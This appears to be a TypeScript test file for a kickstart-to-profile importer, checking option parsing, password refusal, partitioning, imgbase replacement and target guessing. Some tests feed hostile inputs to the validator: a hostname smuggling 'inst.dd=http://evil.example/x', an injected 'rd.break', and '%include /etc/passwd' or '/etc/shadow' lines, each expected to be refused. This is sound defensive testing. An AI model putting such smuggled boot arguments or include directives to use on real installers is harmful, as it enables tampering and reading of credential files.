// SPDX-License-Identifier: GPL-2.0-or-later
// Single rules of the import: merging, secrets, replaced partitionings, calls of imgbase, the target, and the reasons that people read.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Layout } from '../profile/layout.ts';
import { MASK } from '../profile/names.ts';
import { importKickstart, type Imported } from './import.ts';

const BASE = ['liveimg --url=http://images.example.com/a.squashfs', 'ignoredisk --only-use=sda'];
type Read = Exclude<Imported, { outcome: 'refused' }>;

/** The import of `lines` after two that make a profile of them; line 1 is the first of `lines`. */
function read(lines: readonly string[], target: 'rhel8' | 'rhel9' | 'rhel10' | 'ovirt45' = 'rhel9'): Read {
  const imported = importKickstart(`${[...lines, ...BASE].join('\n')}\n`, target);
  assert.ok(imported.outcome !== 'refused');
  return imported;
}
const line = (imported: Read, number: number) => imported.lines[number - 1];
const HASH = `$6$${'a'.repeat(8)}$${'b'.repeat(86)}`;

test('a command that is said again: values stay, flags start anew, as pykickstart does', () => {
  assert.deepEqual(read(['rootpw --lock', `rootpw --iscrypted ${HASH}`]).profile.users?.root, { password: 'hashed', hash: HASH, allowSsh: false, sshKeys: [] });
  assert.equal(read(['timezone --utc Europe/Berlin', 'timezone Europe/Prague']).profile.locale?.utc, false);
  assert.deepEqual(read(['services --enabled=a,b', 'services --disabled=c']).profile.services?.disabled, ['c']);
  assert.deepEqual(read(['services --enabled=a,b', 'services --disabled=c']).profile.services?.enabled, ['a', 'b']);
  assert.deepEqual(read(['firewall --disabled', 'firewall --ssh --port=5900,161:udp']).profile.services?.firewall, { enabled: true, services: ['ssh'], ports: ['5900:tcp', '161:udp'] });
});

test('options in every spelling: abbreviated, with a blank, quoted, twice', () => {
  const { profile } = read(['network --dev eno1 --boot=static "--ip=192.0.2.7" --netmask 255.255.255.0 --netm=255.255.0.0 --gate=192.0.2.1 --hostname node1 # why']);
  assert.deepEqual([profile.network?.hostname, profile.network?.interfaces?.[0]?.ipv4], ['node1', { method: 'static', address: '192.0.2.7', prefix: 16, gateway: '192.0.2.1' }]);
  assert.deepEqual(profile.extra?.commands, ['# why'], 'the comment is kept as a line of its own');
});

test('passwords in clear and old hashes never come through; the account does', () => {
  for (const given of ['--password=secret', '--password=secret --plaintext', '--iscrypted --password=$1$salt$secret', '--iscrypted --password=$5$salt$secret', '--iscrypted --password=abJnggxhB/yWI']) {
    const imported = read([`user --name=anna ${given}`]);
    assert.deepEqual(imported.profile.users?.accounts?.map(({ name, hash }) => [name, hash]), [['anna', undefined]]);
    assert.equal(line(imported, 1)?.outcome, 'refused');
    assert.match(line(imported, 1)?.reason ?? '', /again in the wizard/);
    assert.doesNotMatch(JSON.stringify(imported.profile), /secret|abJngg/);
  }
  for (const kept of ['vnc --password=secret', 'sshpw --username=root secret --plaintext', 'realm join --one-time-password=secret example.com', 'bootloader --password=secret', 'iscsi --ipaddr=192.0.2.1 --user=a --password=secret']) {
    const imported = read([kept]);
    assert.equal(line(imported, 1)?.outcome, 'refused', kept);
    assert.doesNotMatch(JSON.stringify(imported.profile), /secret/, kept);
  }
});

test('a masked preview gives masks, which the store fills with what it has', () => {
  const { profile } = read([`rootpw --iscrypted "${MASK}"`, `user --name=anna --password="${MASK}" --iscrypted`]);
  assert.deepEqual([profile.users?.root, profile.users?.accounts?.[0]?.hash], [{ password: 'hashed', hash: MASK, allowSsh: false, sshKeys: [] }, MASK]);
});

test('a call of imgbase in %post asks for layers, and is replaced by ":"', () => {
  const imported = read(['%post', 'if true; then', '  imgbase --debug layout --init && touch /a', 'fi', '%end'], 'ovirt45');
  assert.deepEqual(imported.profile.layout, Layout.parse({}));
  assert.deepEqual(imported.profile.scripts?.map(({ body }) => body), ['if true; then\n  : && touch /a # imgbase --debug layout --init: done by the installer\nfi\n']);
  assert.deepEqual(imported.lines.slice(0, 5).map(({ outcome }) => outcome), ['understood', 'understood', 'refused', 'understood', 'understood']);
  assert.deepEqual(read(['%post --erroronfail', 'nodectl init', '%end']).profile.scripts, []);
  assert.equal(read(['%post', 'echo imgbase layout --init', '%end']).profile.layout?.init, false);
});

test('the network is never kept as it was: values outside the allow-list are refused', () => {
  const imported = read(['network --device=eno1 --hostname="h1 inst.dd=http://evil.example/x"', 'network --device=eno2 --nameserver="192.0.2.1 rd.break"', 'network --device=eno3 --essid=x']);
  assert.equal(imported.outcome, 'draft');
  assert.deepEqual(imported.lines.slice(0, 3).map(({ outcome }) => outcome), ['refused', 'refused', 'refused']);
  assert.deepEqual(imported.profile.extra?.commands, []);
});

test('automatic partitioning becomes the preset; other kinds are replaced, and said so', () => {
  const thin = read(['autopart --type=thinp --noswap --encrypted --passphrase="long enough"']);
  assert.deepEqual([thin.profile.storage.preset, thin.profile.storage.swap, thin.profile.storage.luks], ['nist', 0, { passphrase: 'long enough' }]);
  assert.deepEqual([line(thin, 1)?.outcome, line(read(['autopart --type=plain']), 1)?.outcome], ['understood', 'refused']);
  for (const other of ['raid / --device=md0 --level=1 raid.1 raid.2', 'mount /dev/sda1 /', 'part /data --size=100']) assert.equal(line(read([other]), 1)?.outcome, 'refused', other);
});

test('what a line asks to spare is never passed over in silence', () => {
  for (const less of ['clearpart --none', 'clearpart --linux --drives=sda', 'clearpart --list=sda2', 'ignoredisk --drives=sdb', 'clearpart --all --drives=sdb']) assert.equal(line(read([less]), 1)?.outcome, 'refused', less);
  const two = importKickstart(`${BASE[0]}\nignoredisk --only-use=sda,sdb\n`, 'rhel9');
  assert.ok(two.outcome === 'draft');
  assert.deepEqual(two.profile.storage.disk, { by: 'device', device: '' });
});

test('nothing is followed: %include and %ksappend are refused wherever they stand', () => {
  const imported = read(['%include /etc/passwd', '%ksappend http://192.0.2.1/x', '%post', 'echo a', '%include /etc/shadow', '%end', '%packages', '%include x', '%end']);
  assert.deepEqual([1, 2, 5, 8].map((number) => line(imported, number)?.outcome), ['refused', 'refused', 'refused', 'refused']);
  assert.deepEqual(imported.profile.scripts?.map(({ body }) => body), ['echo a\n']);
});

test('errors name the line, the command and the way out', () => {
  const imported = read(['bogus', 'rootpw "half', 'network --bo=dhcp --b=dhcp', 'part / --size=much', '%end', 'liveimg', 'auth --x', '%post']);
  const reasons = imported.lines.slice(0, 8).map(({ outcome, reason }) => `${outcome}: ${reason ?? ''}`);
  [/does not know it/, /double quote/, /--bo" could mean --bondopts or/, /--size takes a whole number/, /closes no section/, /--url is missing/, /^kept/, /no %end/].forEach((pattern, index) => assert.match(reasons[index] ?? '', pattern));
});

test('the target: given, from the header, or the newest that takes every line', () => {
  const guess = (...lines: readonly string[]) => {
    const imported = importKickstart(`${[...lines, ...BASE].join('\n')}\n`);
    return imported.outcome === 'refused' ? '' : `${imported.target.by} ${imported.target.id}`;
  };
  assert.equal(guess('lang en_US.UTF-8'), 'guess centos10');
  assert.equal(guess('timezone --ntpservers=a Europe/Berlin'), 'guess centos9');
  assert.equal(guess('eula --agreed'), 'guess rhel10');
  assert.equal(guess('install'), 'guess alma8');
  assert.equal(guess('bootc --source-imgref=a'), 'guess centos10');
  assert.equal(guess('%post', 'nodectl init', '%end'), 'guess ovirt45');
  assert.equal(guess('btrfs none --label=a --data=0 btrfs.1'), 'guess fedora45');
  assert.equal(guess('# Basewright profile edge, for rocky8'), 'header rocky8');
  assert.equal(read([], 'rhel8').target.by, 'given');
});

test('texts that are too large are refused as a whole', () => {
  const imported = importKickstart('#\n'.repeat(20_001));
  assert.ok(imported.outcome === 'refused');
  assert.match(imported.reason, /20001 lines; at most 20000/);
});
